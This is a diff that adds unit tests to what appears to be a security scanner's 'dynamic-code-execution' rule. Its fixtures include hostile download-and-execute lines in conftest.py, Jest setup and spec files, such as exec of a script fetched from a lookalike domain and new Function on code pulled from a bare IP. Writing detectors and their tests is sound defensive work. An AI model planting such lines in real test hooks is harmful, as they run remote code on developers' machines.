@@ -1616,6 +1616,22 @@ describe('dynamic-code-execution of downloaded code', () => {
   });
 });
 
+describe('dynamic-code-execution of downloaded code in tests and test setup files', () => {
+  const sink = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'dynamic-code-execution');
+  it('conftest.py, a Jest setup file or a spec that runs what it downloads from a remote host is high; from a bare IP, critical', () => {
+    expect(sink('tests/conftest.py', ['import requests', "exec(requests.get('https://pytest-cache-sync.dev/boot.py').text)"])?.severity).toBe('high');
+    expect(sink('conftest.py', ['def pytest_configure(config):', "    code = urlopen('https://pytest-cache-sync.dev/boot.py').read()", '    exec(code)'])?.severity).toBe('high');
+    expect(sink('test/setup.js', ["https.get('https://jest-env-sync.dev/s.js', (r) => {", "  let b = '';", '  r.on(\'data\', (c) => (b += c));', '  r.on(\'end\', () => eval(b));', '});'])?.severity).toBe('high');
+    expect(sink('src/__tests__/setup.ts', ["const src = await (await fetch('http://45.61.12.9/x.js')).text();", 'new Function(src)();'])?.severity).toBe('critical');
+  });
+  it('a test that evaluates a bundle its local server serves, or reads JSON or a status from a remote host, is no finding', () => {
+    expect(sink('test/bundle.test.js', ["const src = await (await fetch('http://localhost:4173/bundle.js')).text();", 'new Function(src)();'])).toBeUndefined();
+    expect(sink('tests/test_schema.py', ["data = requests.get('https://json.schemastore.org/package.json').json()", "assert eval(repr(data['type'])) == 'object'"])).toBeUndefined();
+    expect(sink('tests/test_repr.py', ["r = requests.get('https://httpbin.org/get')", 'assert eval(repr(r.status_code)) == 200'])).toBeUndefined();
+    expect(sink('tests/test_loader.py', ['exec(compile(source, path, "exec"))'])).toBeUndefined();
+  });
+});
+
 describe('dynamic-code-execution of an edited string constant', () => {
   /** A hunk whose edited constant stands above unchanged context lines (the sink among them). */
   const edit = (removed: string, added: string, context: string[]) => ['@@ -1,5 +1,5 @@', ` 'use strict';`, `-${removed}`, `+${added}`, ...context.map((c) => ` ${c}`)].join('\n');
